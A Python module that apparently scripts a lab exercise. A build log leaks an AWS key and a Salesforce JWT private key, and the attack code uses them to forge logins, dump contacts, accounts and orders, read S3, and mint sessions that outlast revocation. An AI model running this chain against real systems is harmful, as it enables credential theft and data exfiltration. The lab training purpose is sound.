"""The attack `leaked-ci-key`: a build log shows an AWS key and the private key of a Salesforce JWT login.

A pipeline printed its environment. Whoever reads the log logs in to Salesforce as the pipeline's integration
user, for whom no password and no second factor is asked, and takes what the user may read; the AWS key is
turned into a session at once, because a session outlives the key's deactivation.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import boto3
import botocore.config
import jwt
import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from deployments.lab.aws.world import CI_USER
from deployments.lab.scenarios.attacker import (
    TIMEOUT_S,
    AttackLog,
    Credential,
    Persistence,
    SalesforceThief,
    attempt,
    aws_client,
    vault_client,
)
from deployments.lab.scenarios.scenario import KNOWN_AT_THE_ALARM, Lab, Scenario, play, recall, remember

APP = "Release Pipeline"
USERNAME = "erp-connect@lab.example"
PERMISSION_SET = "ERP_Connect"
KEPT_AT = "integrations/release-pipeline"
USER_AGENT = "python-requests/2.32.3"
JWT_GRANT = "urn:ietf:params:oauth:grant-type:jwt-bearer"
AWS_KEY = re.compile(r"AWS_ACCESS_KEY_ID=(AKIA[A-Z0-9]{16})\s+AWS_SECRET_ACCESS_KEY=(\S{40})")
PRIVATE_KEY = re.compile(r"-----BEGIN PRIVATE KEY-----.+?-----END PRIVATE KEY-----", re.DOTALL)
CONSUMER_KEY = re.compile(r"SF_CONSUMER_KEY=(\S+)")
QUERIES = (
    "SELECT Id, Username, Email, Profile.Name FROM User",
    "SELECT Id, FirstName, LastName, Email, Phone, MobilePhone, MailingStreet, MailingCity, "
    "MailingPostalCode, MailingCountry FROM Contact",
    "SELECT Id, Name, Phone, BillingStreet, BillingCity, BillingPostalCode, BillingCountry FROM Account",
)
BULK = "SELECT Id, OrderNumber, AccountId, TotalAmount, BillingCity, BillingCountry FROM Order"


# --- before the attack: the pipeline, and its log --------------------------------------------------


def prepare(lab: Lab) -> str:
    """Give the lab a build pipeline, and return the log in which it printed its secrets."""
    key_id, secret = _aws_user(lab)
    private, public = _key_pair()
    consumer_key = "3MVG9" + key_id[4:] + "ReleasePipeline"
    _connected_app(lab, consumer_key, public)
    kept = {
        "aws_access_key_id": key_id,
        "aws_secret_access_key": secret,
        "sf_consumer_key": consumer_key,
        "sf_username": USERNAME,
        "sf_private_key": private,
    }
    vault_client(lab, lab["vault"]["root_token"]).secrets.kv.v2.create_or_update_secret(
        KEPT_AT, secret=kept, mount_point="kv"
    )
    remember(
        lab,
        suspects=[f"aws-access-key={key_id}", f"connected-app={APP}", f"salesforce-user={USERNAME}"],
        credentials=[f"oauth:{APP}:*"],
        secrets=[secret, *private.splitlines()[1:3]],
    )
    log = (
        "[build 4711] step 3/9: deploy\n+ env | sort\n"
        f"AWS_ACCESS_KEY_ID={key_id}\nAWS_SECRET_ACCESS_KEY={secret}\nCI=true\n"
        f"SF_CONSUMER_KEY={consumer_key}\nSF_USERNAME={USERNAME}\n+ cat server.key\n{private}\n"
        "[build 4711] step 3/9: done\n"
    )
    path = Path(lab["dir"]) / "build-4711.log"
    path.touch(mode=0o600)
    path.write_text(log, encoding="utf-8")
    return log


def _aws_user(lab: Lab) -> tuple[str, str]:
    admin = lab["aws"]["admin"]
    iam = aws_client(lab, "iam", admin["access_key_id"], admin["secret_access_key"])
    bucket = f"arn:aws:s3:::{lab['aws']['buckets']['attachments']}"
    statements = [
        {"Effect": "Allow", "Action": ["s3:ListAllMyBuckets", "sts:GetSessionToken"], "Resource": "*"},
        {"Effect": "Allow", "Action": ["s3:ListBucket", "s3:GetObject"], "Resource": [bucket, f"{bucket}/*"]},
    ]
    document = json.dumps({"Version": "2012-10-17", "Statement": statements})
    iam.put_user_policy(UserName=CI_USER, PolicyName=CI_USER, PolicyDocument=document)
    key = iam.create_access_key(UserName=CI_USER)["AccessKey"]
    return key["AccessKeyId"], key["SecretAccessKey"]


def _key_pair() -> tuple[str, str]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    public = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return private.decode(), public.decode()


def _connected_app(lab: Lab, consumer_key: str, public_key: str) -> None:
    """A JWT app that an administrator has approved for the integration user's permission set."""
    admin = lab["salesforce"]["admin"]
    thief = SalesforceThief(lab, "lab/1.0")
    form = {
        "grant_type": "client_credentials",
        "client_id": admin["consumer_key"],
        "client_secret": admin["consumer_secret"],
    }
    token = thief.http.post(f"{thief.url}/services/oauth2/token", data=form, timeout=TIMEOUT_S).json()
    soql = f"SELECT Id FROM PermissionSet WHERE Name = '{PERMISSION_SET}'"  # noqa: S608 - a constant
    set_id = thief.query(soql, token["access_token"]).json()["records"][0]["Id"]
    app = {
        "Name": APP,
        "OptionsAllowAdminApprovedUsersOnly": 1,
        "ConsumerKey": consumer_key,
        "Certificate": public_key,
        "Scopes": "api",
        "Flows": "jwt",
        "IsBlocked": 0,
    }
    (app_id,) = _control(lab, thief, {"object": "ConnectedApplication", "record": app})
    access = {"ParentId": set_id, "SetupEntityId": app_id, "SetupEntityType": "ConnectedApplication"}
    _control(lab, thief, {"object": "SetupEntityAccess", "record": access})


def _control(lab: Lab, thief: SalesforceThief, body: Mapping[str, Any]) -> list[str]:
    token = Path(lab["control_token_file"]).read_text(encoding="utf-8").strip()
    reply = thief.http.post(
        f"{thief.url}/__lab__/insert",
        json=body,
        headers={"Authorization": f"Bearer {token}"},
        timeout=TIMEOUT_S,
    )
    reply.raise_for_status()
    return list(reply.json()["ids"])


# --- the attack ------------------------------------------------------------------------------------


class LeakedCiKey:
    """Knows nothing but the build log."""

    def __init__(self, lab: Lab, log: AttackLog) -> None:
        self.lab = lab
        self.log = log
        text = prepare(lab)
        found, private, consumer = AWS_KEY.search(text), PRIVATE_KEY.search(text), CONSUMER_KEY.search(text)
        assert found and private and consumer, "the build log shows no keys"
        self.aws_key = (found[1], found[2])
        self.private_key, self.consumer_key = private[0], consumer[1]
        self.thief = SalesforceThief(lab, USER_AGENT)
        self.tokens: list[str] = []
        self.sessions: list[dict[str, str]] = []

    def log_in(self) -> bool:
        """A JWT bearer login with the leaked private key."""
        claims = {
            "iss": self.consumer_key,
            "sub": USERNAME,
            "aud": self.thief.url,
            "exp": int(time.time()) + 180,
        }
        assertion = jwt.encode(claims, self.private_key, algorithm="RS256")
        form = {"grant_type": JWT_GRANT, "assertion": assertion}
        reply = self.thief.http.post(f"{self.thief.url}/services/oauth2/token", data=form, timeout=TIMEOUT_S)
        if reply.status_code == 200 and len(self.tokens) < 200:
            self.tokens.append(reply.json()["access_token"])
        return reply.ok

    def exfiltrate(self) -> None:
        if not attempt(self.log, self._login()):
            raise SystemExit("The leaked private key does not log in: the lab is not as expected.")
        token = self.tokens[0]
        for soql in QUERIES:
            self.log.add("jwt-access-token", "query", self._all_pages(soql, token))
        self.log.add("jwt-access-token", "bulk export", bool(self.thief.bulk_export(BULK, token)))
        for credential in self._aws():
            attempt(self.log, credential)
        sts = aws_client(self.lab, "sts", *self.aws_key)
        self.sessions.append(sts.get_session_token()["Credentials"])

    def _all_pages(self, soql: str, token: str) -> bool:
        reply = self.thief.query(soql, token)
        while reply.ok and (following := reply.json().get("nextRecordsUrl")):
            reply = self._get(following, token)
        return reply.ok

    def _get(self, path: str, token: str) -> requests.Response:
        headers = {"Authorization": f"Bearer {token}"}
        return self.thief.http.get(self.thief.url + path, headers=headers, timeout=TIMEOUT_S)

    def _login(self) -> Credential:
        return Credential("jwt-private-key", "login", self.log_in)

    def _access_tokens(self) -> list[Credential]:
        def use(token: str) -> bool:
            return self.thief.query("SELECT Id, Email FROM Contact LIMIT 200", token).ok

        return [
            Credential("jwt-access-token", "query", lambda token=token: use(token))  # type: ignore[misc]
            for token in self.tokens
        ]

    def _aws(self) -> list[Credential]:
        clients = {"aws-access-key": aws_client(self.lab, "s3", *self.aws_key)}
        clients |= {f"aws-session-{n}": self._session(one) for n, one in enumerate(self.sessions)}
        bucket = self.lab["aws"]["buckets"]["attachments"]

        def read(s3: Any) -> bool:
            listed = s3.list_objects_v2(Bucket=bucket).get("Contents", [])
            return bool(listed) and bool(s3.get_object(Bucket=bucket, Key=listed[0]["Key"])["Body"].read())

        return [
            Credential(name, "s3 read", lambda s3=s3: read(s3))  # type: ignore[misc]
            for name, s3 in clients.items()
        ]

    def _session(self, issued: Mapping[str, str]) -> Any:
        return boto3.client(
            "s3",
            endpoint_url=self.lab["aws"]["endpoint"],
            region_name=self.lab["aws"]["region"],
            aws_access_key_id=issued["AccessKeyId"],
            aws_secret_access_key=issued["SecretAccessKey"],
            aws_session_token=issued["SessionToken"],
            config=botocore.config.Config(retries={"max_attempts": 0}, s3={"addressing_style": "path"}),
        )

    def persistence(self) -> Persistence:
        """One loop for Salesforce, one for AWS."""
        return Persistence(self.log, [[*self._access_tokens(), self._login()], self._aws()])

    def everything(self) -> Iterator[Credential]:
        yield from self._access_tokens()
        yield self._login()
        yield from self._aws()


SCENARIO = Scenario(
    name="leaked-ci-key",
    module="deployments.lab.scenarios.leaked_ci_key",
    leaked="A build log shows an AWS key and the private key of the release pipeline's Salesforce login",
    suspects=lambda lab: recall(lab, "suspects"),
    credentials=lambda lab: recall(lab, "credentials"),
    secrets=lambda lab: recall(lab, "secrets"),
    answers=KNOWN_AT_THE_ALARM,
)

if __name__ == "__main__":
    play(LeakedCiKey)
